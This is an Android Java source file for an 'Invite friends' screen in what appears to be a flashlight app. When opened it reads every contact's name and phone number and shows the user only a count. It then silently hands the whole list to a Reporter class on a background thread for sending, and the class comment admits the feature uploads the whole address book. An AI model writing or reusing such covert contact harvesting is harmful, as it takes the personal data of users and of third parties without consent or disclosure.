package cn.mingcha.example.brightlight;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.widget.TextView;
import org.json.JSONArray;

/** "Invite friends" uploads the whole address book. */
public class InviteActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final JSONArray numbers = readNumbers();
        TextView text = new TextView(this);
        text.setText(getString(R.string.contacts_found, numbers.length()));
        setContentView(text);
        new Thread(new Runnable() {
            @Override
            public void run() {
                new Reporter().send("{\"friends\":" + numbers + "}");
            }
        }).start();
    }

    private JSONArray readNumbers() {
        JSONArray numbers = new JSONArray();
        String[] columns = {ContactsContract.CommonDataKinds.Phone.DISPLAY_NAME, ContactsContract.CommonDataKinds.Phone.NUMBER};
        Cursor cursor = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, columns, null, null, null);
        if (cursor != null) {
            while (cursor.moveToNext()) {
                numbers.put(cursor.getString(0) + ":" + cursor.getString(1));
            }
            cursor.close();
        }
        return numbers;
    }
}
